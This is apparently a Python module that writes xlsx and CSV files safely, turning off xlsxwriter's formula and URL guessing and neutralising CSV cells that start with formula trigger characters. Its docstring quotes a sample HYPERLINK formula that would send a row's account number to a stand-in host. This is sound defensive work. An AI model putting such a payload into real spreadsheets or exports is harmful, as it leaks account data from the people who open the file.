"""The one way minzheng writes workbooks and CSV files: text is written as text, numbers as numbers.

Anything a person typed (a name, an account holder, an address, a region name) may begin with ``=``, ``+``, ``-``
or ``@``. A spreadsheet that reads such a cell as a formula runs it when the bank clerk opens the file
(``=HYPERLINK("http://x/?"&E2,"点击核对")`` sends the row's account number away). So:

- **xlsx**: every workbook comes from :func:`workbook`, which switches off xlsxwriter's guessing
  (``strings_to_formulas``: ``'=…'`` would become a formula; ``strings_to_urls``: ``'http://…'`` a live link;
  ``strings_to_numbers``: a 19-digit account a float), and rows go through :func:`write_cells`, which calls
  ``write_string`` for every ``str``. A text cell holding ``=1+1`` is shown as typed and never evaluated; nothing
  is added to it, so the text round-trips exactly.
- **CSV** has no types: a spreadsheet decides by the first character. :func:`csv_cell` neutralises a text cell
  beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return the way OWASP describes for CSV injection
  (a leading single quote, and the field quoted). Numbers (``int``, ``Decimal``, ``float``) are written as they
  are: a genuine negative amount stays ``-12.50``; only text cells are touched.

Writers pass Python values of the right type (amounts as ``Decimal``/``float``, counts as ``int``, everything else
as ``str``), and the helper decides from the type, never from how the text looks.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import IO, Any

import xlsxwriter
from xlsxwriter.worksheet import Worksheet

#: xlsxwriter's defaults turn '=…' into formulas and 'http://…' into links: off for every workbook we write
SAFE_OPTIONS: dict[str, bool] = {
    "strings_to_formulas": False,
    "strings_to_urls": False,
    "strings_to_numbers": False,
}

#: the first characters that make a spreadsheet read a CSV cell as a formula (OWASP, CSV injection)
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def workbook(target: str | Path | IO[bytes], **options: Any) -> xlsxwriter.Workbook:
    """An xlsxwriter workbook that writes strings as strings (``in_memory``/``constant_memory`` as asked)."""
    for key, value in SAFE_OPTIONS.items():
        if options.get(key, value) != value:
            raise ValueError(f"{key} may not be switched on: text must stay text")
    return xlsxwriter.Workbook(
        str(target) if isinstance(target, Path) else target, {**options, **SAFE_OPTIONS}
    )


def write_cell(sheet: Worksheet, row: int, col: int, value: Any, cell_format: Any = None) -> None:
    """One cell by its Python type: text with write_string, numbers as numbers, dates as dates; None is skipped."""
    if value is None:
        if cell_format is not None:
            sheet.write_blank(row, col, None, cell_format)
        return
    if isinstance(value, str):
        sheet.write_string(row, col, value, cell_format)
    elif isinstance(value, bool):
        sheet.write_boolean(row, col, value, cell_format)
    elif isinstance(value, int | float | Decimal):
        # a cell holds a binary double; amounts to the fen below 10^13 survive exactly (callers keep Decimal sums)
        sheet.write_number(row, col, float(value), cell_format)
    elif isinstance(value, datetime | date):
        sheet.write_datetime(row, col, value, cell_format)
    else:
        sheet.write_string(row, col, str(value), cell_format)


def write_cells(
    sheet: Worksheet, row: int, values: Sequence[Any], cell_format: Any = None, *, col: int = 0
) -> None:
    """A row of cells from ``col`` on, each by its type (see :func:`write_cell`)."""
    for offset, value in enumerate(values):
        write_cell(sheet, row, col + offset, value, cell_format)


def csv_cell(value: Any) -> str:
    """One CSV field as written: numbers as they are, text neutralised when it could start a formula."""
    if value is None:
        return ""
    if isinstance(value, bool):
        text = str(value)
    elif isinstance(value, int | float | Decimal):
        return str(value)
    else:
        text = str(value)
    if text.startswith(FORMULA_TRIGGERS):
        # the quote makes the spreadsheet take the cell as text; the field is quoted so the quote stays with it
        return '"' + ("'" + text).replace('"', '""') + '"'
    if any(c in text for c in ',"\r\n'):
        return '"' + text.replace('"', '""') + '"'
    return text


def csv_line(values: Iterable[Any]) -> str:
    """A CSV record (CRLF-terminated, as the csv module writes by default) with every text cell neutralised."""
    return ",".join(csv_cell(value) for value in values) + "\r\n"


class CsvWriter:
    """``writer.writerow(values)`` for a text file opened with ``newline=""``: a drop-in for ``csv.writer``."""

    def __init__(self, handle: IO[str]) -> None:
        self._write: Callable[[str], Any] = handle.write

    def writerow(self, values: Iterable[Any]) -> None:
        self._write(csv_line(values))
